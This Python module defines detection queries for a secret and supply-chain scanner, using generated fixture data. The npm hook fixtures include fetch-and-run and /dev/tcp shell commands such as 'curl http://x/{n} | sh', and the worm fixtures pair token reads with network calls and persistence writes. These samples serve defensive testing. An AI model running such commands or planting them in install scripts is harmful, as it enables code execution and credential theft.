"""Queries of scripts' code, skips by source, manifests, workflows, split keys, worm shapes, rule choice."""

from __future__ import annotations

from pyspark.sql import Window
from pyspark.sql import functions as F

from siftgrid.functions import guards, rules, urls
from siftgrid.operators import detect
from siftgrid.operators import supply_chain as S
from siftgrid.plans.core_queries import any_of, app_value_sql, listed, rlike
from siftgrid.plans.registry import query
from siftgrid.plans.web_queries import CATEGORIES, HOST_SQL, doc_values, pages, values_sql
from siftgrid.sources import tables as T
from siftgrid.sources.tables import pick, pick_sql, sql_text

PATHS = ["a{n}.js", "b.py", "c.txt", "d{n}.html", "e.go"]


def texts(spark, sf_dir, choices):
    n = F.col("doc_id")
    return T.read(spark, sf_dir, "documents").select("doc_id", pick(PATHS, n * 2 + F.floor(n / 7).cast("long")).alias("source"), pick(choices, n).alias("content"))


def texts_sql(choices: list[str]) -> str:
    return f"t as (select doc_id, {pick_sql(PATHS, '(doc_id * 2 + doc_id // 7)')} as source, {pick_sql(choices, 'doc_id')} as content from documents)"


CODE = ["CryptoJS.AES.decrypt(x, '{h}.a')", "const secret = \"{h}.b\";", "crypto.subtle.importKey(raw, '{h}-{n}')", "plain {n}", "getToken(a, \"{h}_x\")", "x = {h}{n}", "CryptoJS.AES.encrypt(msg, '{h}/q')"]
_js = " union all ".join(
    f"select doc_id, '{n}' as rule, unnest(regexp_extract_all(content, {sql_text('(?s)' + p)}, {1 if '([^' in p else 0})) as value from t where {rlike('source', rules.JS_SUFFIX)}" for n, p in rules.JS_PATTERNS.items()
)


@query("detect_js_crypto", f"with {texts_sql(CODE)}, m as ({_js}) select doc_id, rule, value, 'high' as severity from m where not {app_value_sql('value')}")
def detect_js_crypto(spark, sf_dir):
    return detect.js_findings(texts(spark, sf_dir, CODE)).select("doc_id", "rule", "value", "severity")


COMMENTS = ["x() // password: {h}", "/* a\n api_key = k-{h} */", "# token: {h}.{n}", "plain {n}", "// Secret=short", "/* key: {h}*/ # username {h}-u", "y // no value"]
_cc = " union all ".join(
    f"select doc_id, '{n}' as rule, unnest(regexp_extract_all(content, {sql_text('(?is)' + p)}, 1)) as k, unnest(regexp_extract_all(content, {sql_text('(?is)' + p)}, 2)) as v from t where {rlike('source', rules.CODE_PARTS)}" for n, p in rules.COMMENT_PATTERNS.items()
)


@query("detect_comment_creds", f"with {texts_sql(COMMENTS)}, m as ({_cc}) select doc_id, rule, lower(k) || '=' || trim(v) as value, 'critical' as severity from m where not {app_value_sql('trim(v)')}")
def detect_comment_creds(spark, sf_dir):
    return detect.comment_credentials(texts(spark, sf_dir, COMMENTS)).select("doc_id", "rule", "value", "severity")


EXT = [
    "true", "1.2.3-beta.{n}", "550e8400-e29b-41d4-a716-446655440000", "@scope/pkg-{n}", "sk_live_{h}", "token", "abcdefghijk{n}", "QUJDREVGR0hJ", "eyJhbGciOi.{n}", "eyJ{h}{h}.x", "delete a.b_{n}xyz", "1111111111", "10.20.30.40", "your_api_key_{h}",
    "a{h}?b", "#aabbccdd11", "aaaaabbbbb", "access_token", "some-token-{h}",
]
_t = "trim(value)"
EXT_SQL = " or ".join([
    f"length({_t}) < 10", f"length({_t}) > 1000", f"lower({_t}) in {listed(rules.APP_WORDS)}", f"({rlike(_t, r'^(?:\d+|[a-zA-Z]+)$')} and len(list_distinct(string_split({_t}, ''))) < 5)", *[rlike(_t, p) for p in rules.APP_SHAPES],
    any_of(f"lower({_t})", rules.APP_STYLE_WORDS), any_of(f"replace(replace(lower({_t}), '_', ''), '-', '')", rules.APP_BUILTINS), *[rlike(_t, "(?i)" + p) for p in rules.APP_PLACEHOLDERS],
    f"({rlike(_t, r'^\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}$')} and try_cast(split_part({_t}, '.', 1) as int) in ({', '.join(map(str, rules.APP_RESERVED_OCTETS))}))",
    *[rlike(_t, p) for p in rules.EXT_SHAPES[1:]], f"(length({_t}) >= 4 and {rlike(_t, '^\\d+$')} and len(list_distinct(string_split({_t}, ''))) = 1)", *[f"({rlike(_t, p)} and length({_t}) < {n})" for p, n in rules.EXT_SHORT],
])


@query("fp_ext_value", f"with {values_sql(EXT)} select doc_id, value, {EXT_SQL} as hit from v")
def fp_ext_value(spark, sf_dir):
    return doc_values(spark, sf_dir, EXT).withColumn("hit", guards.ext_value(F.col("value")))


PAGES_ = ["https://mail.google.com/x{n}", "https://shop{n}.example.net/", "https://console.aws.amazon.com/a", "https://blog.example.org/{n}"]
SOURCES = ["chrome://settings", "Request Header (authorization)", "localStorage __clerk_{n}", "Response Header (cf-ray)", "https://js.stripe.com/v3", "og:image", "https://cdn{n}.r2.dev/a", "Inline Script #{n}", "about:blank", "devtools://x"]
BODIES = ["x?sv=2020&SIG=a", "https://b.s3.amazonaws.com/k", "nothing {n}", "key {h}"]
SKIP_SQL = {
    "first_party": any_of("lower(page)", rules.FIRST_PARTY), "browser_internal": "(contains(lower(source), 'devtools://') or " + " or ".join(f"starts_with(lower(source), '{x}')" for x in rules.INTERNAL_SCHEMES) + ")",
    "own_auth_header": "(contains(lower(source), 'request header') and (contains(lower(source), 'authorization') or contains(lower(source), 'cookie')))", "service_token": any_of("lower(source)", rules.SERVICE_TOKENS),
    "infra_header": f"(contains(lower(source), 'header') and {any_of('lower(source)', rules.INFRA_HEADERS)})", "vendor_script": any_of("lower(source)", rules.VENDOR_SCRIPTS),
    "signed_url": f"({any_of('lower(source)', rules.SIGNED_URL_SOURCES)} or {any_of('lower(content)', rules.SIGNED_URL_MARKS)} or {any_of('lower(source)', rules.SIGNED_URL_MARKS)})", "azure_sas": rlike("content", rules.AZURE_SAS),
}


@query("skip_source_rules", f"with v as (select doc_id, {pick_sql(PAGES_, 'doc_id')} as page, {pick_sql(SOURCES, 'doc_id')} as source, {pick_sql(BODIES, 'doc_id // 3')} as content from documents) select doc_id, " + ", ".join(f"{x} as {k}" for k, x in SKIP_SQL.items()) + " from v")
def skip_source_rules(spark, sf_dir):
    n = F.col("doc_id")
    v = T.read(spark, sf_dir, "documents").select("doc_id", pick(PAGES_, n).alias("page"), pick(SOURCES, n).alias("source"), pick(BODIES, F.floor(n / 3).cast("long")).alias("content"))
    return v.select("doc_id", *[c.alias(k) for k, c in guards.skips(F.col("page"), F.col("source"), F.col("content")).items()])


# --- manifests and workflows ----------------------------------------------------------------------

COMMANDS = ["curl http://x/{n} | sh", "echo {h} | base64 -d", "node -e 'x'", "bun run build", "npm set registry http://r", "tsc -p .", "cat /dev/tcp/1.2.3.4/1", "pwsh -c IEX x", "powershell FromBase64String", "node router_init.js", "bun install http://x/y.js", " ", "wget x; bash -c y"]
HOOKS = ["postinstall", "build", "prepublishOnly", "preinstall", "test"]
SPECS = ["https://user:{h}@git.example.com/x.git", "^1.2.3", "git+ssh://git@host/x", "github:a/b#c{n}", "https://h/x-{n}.tgz", "a/b"]
FILES = ["node_modules/q{n}/package.json", "node_modules/p{n}/package.json", "node_modules/a/node_modules/b{n}/package.json", "src/{n}/package.json", "README{n}.md"]
_command, _hook, _spec, _file = (pick_sql(x, n) for x, n in ((COMMANDS, "doc_id"), (HOOKS, "doc_id // 2"), (SPECS, "doc_id"), (FILES, "doc_id")))
DEP = ["dependencies", "optionalDependencies", "devDependencies"]
MANIFEST_SQL = f"f as (select doc_id // 20 as project, doc_id, {_file} as path, {_command} as command, {_hook} as hook, {_spec} as spec, {pick_sql(DEP, 'doc_id')} as field, case when doc_id % 17 = 0 then 'not json' when doc_id % 19 = 0 then '[1]' else '' end as bad from documents), l as (select *, row_number() over (partition by project order by contains(path, 'node_modules/'), path) as k from f where regexp_matches(path, '(^|/)package\\.json$') and (contains(path, 'node_modules/') or not contains(path, '/')) qualify k <= {{most}} + 1), mf as (select *, max(k) over (partition by project) > {{most}} as truncated from l), mk as (select * from mf where k <= {{most}} and bad = '')"
MOST = 9


def package_files(spark, sf_dir):
    n = F.col("doc_id")
    entry = lambda k, v: F.create_map(k, v)
    d = T.read(spark, sf_dir, "documents").select("doc_id", F.floor(n / 20).alias("project"), pick(FILES, n).alias("path"), pick(COMMANDS, n).alias("command"), pick(HOOKS, F.floor(n / 2).cast("long")).alias("hook"), pick(SPECS, n).alias("spec"), pick(DEP, n).alias("field"))
    made = F.to_json(F.struct(entry(F.col("hook"), F.col("command")).alias("scripts"), *[F.when(F.col("field") == f, entry(F.concat(F.lit("dep"), n), F.col("spec"))).alias(f) for f in DEP]))
    text = F.when(n % 17 == 0, "not json").when(n % 19 == 0, "[1]").otherwise(made)
    return d.select("project", "path", text.alias("text"), "doc_id")


def manifests(spark, sf_dir):
    return S.manifests(package_files(spark, sf_dir), MOST)


@query("lifecycle_hooks", f"with v as (select doc_id, {_command} as command from documents), h as (select doc_id, case when {rlike('command', rules.HOOK_DOWNLOAD)} and {rlike('command', rules.HOOK_RUN)} then {sql_text(rules.HOOK_FETCH_AND_RUN[0])} " + " ".join(f"when {rlike('command', p) if '(?=' not in p else rlike('command', p.replace('(?=.*', '.*').rstrip(')') + ')')} then {sql_text(n)}" for n, p, _ in rules.HOOK_DANGERS) + " end as label from v) select doc_id, label, case when label like 'rewrites the npm registry%' then 'medium' else 'high' end as severity from h where label is not null")
def lifecycle_hooks(spark, sf_dir):
    v = doc_values(spark, sf_dir, COMMANDS, "command")
    return v.select("doc_id", S.script_danger(F.col("command")).alias("d")).where("d is not null").select("doc_id", "d.*")


_most = MANIFEST_SQL.replace("{most}", str(MOST))


@query("src_manifests", f"with {_most} select project, count(*) as files, bool_or(truncated) as truncated from mk group by project")
def src_manifests(spark, sf_dir):
    """Manifests that are read, by project, and whether more were there than are read."""
    return manifests(spark, sf_dir).groupBy("project").agg(F.count("*").alias("files"), F.max("truncated").alias("truncated"))


@query("git_ref_deps", f"with {_most} select project, path, field, 'dep' || doc_id as name, regexp_replace(trim(spec), {sql_text(S.URL_AUTH)}, '\\1://***@', 'g') as spec, case when field = 'optionalDependencies' then 'high' else 'medium' end as severity from mk where {rlike('trim(spec)', S.GIT_REF)}")
def git_ref_deps(spark, sf_dir):
    return S.git_dependencies(manifests(spark, sf_dir))


@query(
    "npm_package_audit",
    f"with {_most}, d as (select *, case when {rlike('command', rules.HOOK_DOWNLOAD)} and {rlike('command', rules.HOOK_RUN)} then 1 else 0 end as fr from mk) select project, path, 'hook' as kind, hook as name from d where hook in {listed(rules.HOOKS)} and trim(command) <> '' and (fr = 1 or " + " or ".join(rlike("command", p) if "(?=" not in p else rlike("command", p.replace("(?=.*", ".*").rstrip(")") + ")") for _, p, _ in rules.HOOK_DANGERS) + f") union all select project, path, 'dependency', 'dep' || doc_id from d where {rlike('trim(spec)', S.GIT_REF)} union all select distinct project, null, 'truncated', null from mk where truncated",
)
def npm_package_audit(spark, sf_dir):
    """Install scripts, dependencies outside the registry, and where the audit stopped early."""
    m = manifests(spark, sf_dir)
    a = S.hooks(m).select("project", "path", F.lit("hook").alias("kind"), F.col("hook").alias("name"))
    b = S.git_dependencies(m).select("project", "path", F.lit("dependency").alias("kind"), "name")
    c = m.where("truncated").select("project", F.lit(None).cast("string").alias("path"), F.lit("truncated").alias("kind"), F.lit(None).cast("string").alias("name")).distinct()
    return a.unionByName(b).unionByName(c)


TRIGGERS = ["on: [push, pull_request_target]\njobs: x", "name: a\non:\n  workflow_run:\n    x: {n}\njobs:\n  b: 1", "on: push\n# pull_request_target", "on:\n  issue_comment:\n", "on: workflow_run\n", "jobs:\n  on_workflow_run: 1"]


@query("workflow_triggers", f"with {values_sql(TRIGGERS, 'text')}, o as (select doc_id as file, regexp_extract(text, {sql_text(rules.ON_INLINE)}, 1) || chr(10) || regexp_extract(text, {sql_text(rules.ON_BLOCK)}, 1) as t from v) " + " union all ".join(f"select file, '{t}' as event from o where {rlike('t', rf'\b{t}\b')}" for t in rules.WORKFLOW_TRIGGERS))
def workflow_triggers(spark, sf_dir):
    return S.triggers(doc_values(spark, sf_dir, TRIGGERS, "text").withColumnRenamed("doc_id", "file"))


PARTS = ["ghp_{h}", "x{h} y", "a\nAKIA{h}x", "short", "SG.{h} pypi-AgEI{h}", "sk-{h}"]
_frag = "select repo, file, line, unnest(regexp_extract_all(txt, '[A-Za-z0-9_-]{12,}')) as part from n"


@query(
    "split_token_pairs",
    f"with f as (select doc_id // 8 as repo, doc_id as file, {pick_sql(PARTS, 'doc_id')} as text from documents), n as (select repo, file, unnest(string_split(text, chr(10))) as txt, generate_subscripts(string_split(text, chr(10)), 1) as line from f), p as ({_frag}), d as (select a.repo, a.file as lead_file, a.line as lead_line, a.part as lead, b.file as other_file, b.line as other_line, b.part from p a join p b on a.repo = b.repo and a.file <> b.file where {rlike('a.part', S.PREFIX)}) select repo, lead_file, lead_line::int as lead_line, other_file, other_line::int as other_line, coalesce("
    + ", ".join(f"case when starts_with(lead, '{p}') then '{p}' end" for p in rules.KEY_PREFIXES)
    + ") as prefix, left(lead || part, 80) as assembled from d",
)
def split_token_pairs(spark, sf_dir):
    f = doc_values(spark, sf_dir, PARTS, "text").select(F.floor(F.col("doc_id") / 8).cast("long").alias("repo"), F.col("doc_id").alias("file"), "text")
    return S.split_keys(f)


STEPS = ["x = process.env.NPM_TOKEN", "fetch ('http://x{n}')", "fs.writeFileSync(p, '~/.config/x')", "noop {n}", "a = 1", "os.environ['AWS_SECRET']", "axios.post(u)"]
SPREAD = 40


@query(
    "worm_triad",
    f"with l as (select doc_id // 300 as source, (doc_id % 300 + 1)::int as line, {pick_sql(STEPS, '(doc_id * 7 // 5 + doc_id // 11)')} as txt from documents), c as (" + " union all ".join(f"select source, line, '{k}' as k from l where {rlike('txt', p)}" for k, p in rules.WORM.items()) + f") select e.source, e.line as env_line, n.line as net_line, w.line as write_line from c e join c n on n.source = e.source and n.k = 'net_egress' join c w on w.source = e.source and w.k = 'persistence_write' where e.k = 'env_read' and greatest(e.line, n.line, w.line) - least(e.line, n.line, w.line) <= {SPREAD} qualify row_number() over (partition by e.source order by e.line, n.line, w.line) = 1",
)
def worm_triad(spark, sf_dir):
    """Sources of up to 300 lines, each line from a document; the span is narrowed so that it decides."""
    n = F.col("doc_id")
    line = pick(STEPS, (F.floor(n * 7 / 5) + F.floor(n / 11)).cast("long"))
    rows = T.read(spark, sf_dir, "documents").select(F.floor(n / 300).cast("long").alias("source"), n, line.alias("t"))
    sources = rows.groupBy("source").agg(F.array_join(F.transform(F.sort_array(F.collect_list(F.struct("doc_id", "t"))), lambda x: x["t"]), "\n").alias("content"))
    return S.worm_shapes(sources, SPREAD)


# --- rules ----------------------------------------------------------------------------------------

RULE_JSON = ['[{"id":"k{n}","pattern":"a+","confidence":"High"},{"name":"My Key-{n}","regex":"b","confidence":"medium"}]', '[{"name":"Low One","regex":"c","confidence":"low"},{"id":"","name":"N{n}","pattern":"","regex":"d","confidence":"high"},{"id":"x"}]', "[]"]
LEVELS = {"low": 1, "medium": 2, "high": 3}


@query("src_rules_json", f"with {values_sql(RULE_JSON, 'j')}, r as (select doc_id, unnest(json_extract(j, '$[*]')) as r from v), p as (select doc_id, coalesce(nullif(json_extract_string(r, '$.id'), ''), replace(replace(lower(coalesce(json_extract_string(r, '$.name'), '')), ' ', '_'), '-', '_')) as id, coalesce(nullif(json_extract_string(r, '$.pattern'), ''), json_extract_string(r, '$.regex')) as pattern, lower(coalesce(json_extract_string(r, '$.confidence'), 'low')) as c from r) select doc_id, id, pattern from p where c in ('medium', 'high') and id <> '' and pattern <> ''")
def src_rules_json(spark, sf_dir, least: str = "medium"):
    """Rules of at least a confidence; an id falls back to the name, a pattern to the regex."""
    j = F.from_json("j", "array<struct<id:string,name:string,pattern:string,regex:string,confidence:string>>")
    r = doc_values(spark, sf_dir, RULE_JSON, "j").select("doc_id", F.inline(j))
    level = F.lit(0)
    for name, n in LEVELS.items():
        level = F.when(F.lower(F.coalesce("confidence", F.lit("low"))) == name, n).otherwise(level)
    slug = F.translate(F.lower(F.coalesce("name", F.lit(""))), " -", "__")
    kept = r.where(level >= LEVELS[least]).select("doc_id", F.coalesce(F.nullif("id", F.lit("")), slug).alias("id"), F.coalesce(F.nullif("pattern", F.lit("")), "regex").alias("pattern"))
    return kept.where("id <> '' and pattern <> ''")


DETECTORS_SQL = "dt(id, pack, category) as (values " + ", ".join(f"('{d[0]}', '{d[1]}', '{c}')" for d in rules.DETECTORS for c in rules.DETECTOR_CATEGORIES[d[0]].split()) + ")"
ACTIVE = ["leak", "baas", "appsec"]


@query("select_detectors", f"with p as (select doc_id, {pick_sql(T.PATHS, 'doc_id')} as path from documents), c as ({' union all '.join(f"select doc_id, '{c}' as category from p where {rlike('lower(path)', x)}" for c, x in CATEGORIES.items())}), {DETECTORS_SQL}, s as (select distinct doc_id, id from c join dt using (category) where pack in {listed(ACTIVE)}) select doc_id, count(*) as detectors, min(id) as first_id from s group by doc_id")
def select_detectors(spark, sf_dir):
    """Detectors of the active packs whose kinds of files a document is one of: an equi-join on the kind."""
    low = F.lower("path")
    kinds = F.array_compact(F.array(*[F.when(low.rlike(p), c) for c, p in CATEGORIES.items()]))
    docs = doc_values(spark, sf_dir, T.PATHS, "path").select("doc_id", F.explode(kinds).alias("category"))
    table = spark.createDataFrame([(d[0], c) for d in detect.detectors(ACTIVE) for c in rules.DETECTOR_CATEGORIES[d[0]].split()], "id string, category string")
    return docs.join(F.broadcast(table), "category").groupBy("doc_id").agg(F.count_distinct("id").alias("detectors"), F.min("id").alias("first_id"))


TERMS = ["key", " TOKEN", "url", "baas", "nothing{n}", "high", "logs"]
RANKED_SQL = "r(id, pack, severity, hay, place, rank) as (values " + ", ".join(f"('{d[0]}', '{d[1]}', '{d[2]}', '{d[0]} {d[1]}.{d[0]} {d[1]} {d[2]} {rules.DETECTOR_CATEGORIES[d[0]]}', {[*rules.PACK_ORDER, *[p for p in rules.PACKS if p not in rules.PACK_ORDER]].index(d[1])}, {rules.SEVERITIES[::-1].index(d[2])})" for d in rules.DETECTORS) + ")"


@query("rule_search", f"with {values_sql(TERMS, 'term')}, t as (select distinct lower(trim(term)) as term from v), {RANKED_SQL} select term, id, pack, row_number() over (partition by term order by place, rank, id)::int as place from t join r on contains(hay, term)")
def rule_search(spark, sf_dir):
    """Rules by the distinct terms that were asked for, in the order of packs, then severity, then id; the rule table is a few dozen rows, sent whole."""
    terms = doc_values(spark, sf_dir, TERMS, "term").select(F.lower(F.trim("term")).alias("term")).distinct()
    packs = [*rules.PACK_ORDER, *[p for p in rules.PACKS if p not in rules.PACK_ORDER]]
    rows = [(d[0], d[1], f"{d[0]} {d[1]}.{d[0]} {d[1]} {d[2]} {rules.DETECTOR_CATEGORIES[d[0]]}", packs.index(d[1]), rules.SEVERITIES[::-1].index(d[2])) for d in rules.DETECTORS]
    r = spark.createDataFrame(rows, "id string, pack string, hay string, pack_rank int, rank int")
    found = terms.join(F.broadcast(r), F.contains(F.col("hay"), F.col("term")))
    return found.select("term", "id", "pack", F.row_number().over(Window.partitionBy("term").orderBy("pack_rank", "rank", "id")).alias("place"))


# --- names and maps -------------------------------------------------------------------------------

LISTINGS = ["*.a{n}.example.com\nExample.com.", "b@example.com\nwww.Example.COM", "x.example.org", " deep.c{n}.example.com. \n\n*.example.com", "notexample.com"]


@query("subdomain_filter", f"with {values_sql(LISTINGS, 'text')}, n as (select ltrim(rtrim(lower(trim(unnest(string_split(text, chr(10))))), '.'), '*.') as name from v) select distinct name from n where name <> '' and not contains(name, '@') and (name = 'example.com' or ends_with(name, '.example.com'))")
def subdomain_filter(spark, sf_dir, domain: str = "example.com"):
    """Names at or under a domain from listings of lines: lower-cased, without final dots and wildcards, once each."""
    lines = doc_values(spark, sf_dir, LISTINGS, "text").select(F.explode(F.split("text", "\n")).alias("line"))
    n = lines.select(F.ltrim(F.rtrim(F.lower(F.trim("line")), F.lit(".")), F.lit("*.")).alias("name")).where("name <> '' and not contains(name, '@')")
    return n.where((F.col("name") == domain) | F.col("name").endswith("." + domain)).distinct()


MAPS = ["x\n//# sourceMappingURL=/m{n}.map\n//# sourceMappingURL=/m{n}.map", "sourceMappingURL=https://cdn.example.net/a.map 'sourceMappingURL=b.js.map'", "none {n}", "sourceMappingURL=//o.example.org/c.map", " ".join(f"sourceMappingURL=/k{i}.map" for i in range(7))]
ORIGIN = r"^([a-z]+://[^/?#]+)"
_ref = "sourceMappingURL=([^\\s'\"<>]+)"
_base = "regexp_replace(url, '[?#].*$', '')"
_dir = f"case when regexp_matches({_base}, '^[a-z]+://[^/]+/') then regexp_replace({_base}, '[^/]*$', '') else {_base} || '/' end"
_resolved = f"case when regexp_matches(r, '^[a-z]+://') then r when starts_with(r, '//') then regexp_extract(url, '^([a-z]+:)', 1) || r when starts_with(r, '/') then regexp_extract(url, '{ORIGIN}', 1) || r else {_dir} || r end"
_first = f"list_transform(regexp_extract_all(body, {sql_text(_ref)}, 1), lambda r: {_resolved})"


@query("source_map_urls", f"with b as (select page_id, url, {pick_sql(MAPS, 'page_id')} as body from pages), l as (select page_id, {_first} as l from b) select page_id, unnest(list_filter(l, lambda x, i: list_position(l, x) = i)[:5]) as map_url from l")
def source_map_urls(spark, sf_dir, most: int = 5):
    """Distinct map references of a body, resolved against its address, `most` at most."""
    refs = F.regexp_extract_all("body", F.lit(_ref), F.lit(1))
    found = F.slice(F.array_distinct(F.transform(refs, lambda r: urls.resolve(r, F.col("url")))), 1, most)
    return pages(spark, sf_dir).select("page_id", "url", pick(MAPS, F.col("page_id")).alias("body")).select("page_id", F.explode(found).alias("map_url"))


BUNDLES = ["dist/app{n}.js", "dist/app{n}.js.map", "dist/lib{n}.js", "dist/lib{n}.map", "dist/none{n}.js", "dist/big.js", "dist/big.js.map"]
BUNDLE_SQL = f"p as (select doc_id, {pick_sql(BUNDLES, 'doc_id')} as path, case when doc_id % 35 = 6 then 9000000 else 1000 end as size from documents), q as (select path, max(size) as size from (select case when doc_id % 7 < 5 then replace(path, doc_id::varchar, (doc_id // 7)::varchar) else path end as path, size from p) group by path)"


@query("src_sourcemap_sibling", f"with {BUNDLE_SQL} select b.path, case when coalesce(a.size, c.size) <= 8388608 then coalesce(a.path, c.path) end as map_path, coalesce(coalesce(a.size, c.size) > 8388608, false) as too_large from q b left join q a on a.path = b.path || '.map' left join q c on c.path = regexp_replace(b.path, '\\.js$', '.map') where ends_with(b.path, '.js')")
def src_sourcemap_sibling(spark, sf_dir, most: int = 8 * 1024 * 1024):
    """Bundles with the map beside them: `<path>.map`, or else the path with the suffix changed; larger maps are told, not read."""
    n = F.col("doc_id")
    size = F.when(n % 35 == 6, 9_000_000).otherwise(1000)
    p = T.read(spark, sf_dir, "documents").select(F.replace(pick(BUNDLES, n), n.cast("string"), F.floor(n / 7).cast("string")).alias("path"), size.alias("size"))
    q = p.groupBy("path").agg(F.max("size").alias("size"))
    side = lambda name: q.select(F.col("path").alias(f"{name}_path"), F.col("size").alias(f"{name}_size"))
    b = q.where(F.col("path").endswith(".js")).select("path", F.concat("path", F.lit(".map")).alias("a_path"), F.regexp_replace("path", r"\.js$", ".map").alias("c_path"))
    both = b.join(side("a"), "a_path", "left").join(side("c"), "c_path", "left")
    found, bytes_ = F.when(F.col("a_size").isNotNull(), F.col("a_path")).when(F.col("c_size").isNotNull(), F.col("c_path")), F.coalesce("a_size", "c_size")
    return both.select("path", F.when(bytes_ <= most, found).alias("map_path"), F.coalesce(bytes_ > most, F.lit(False)).alias("too_large"))
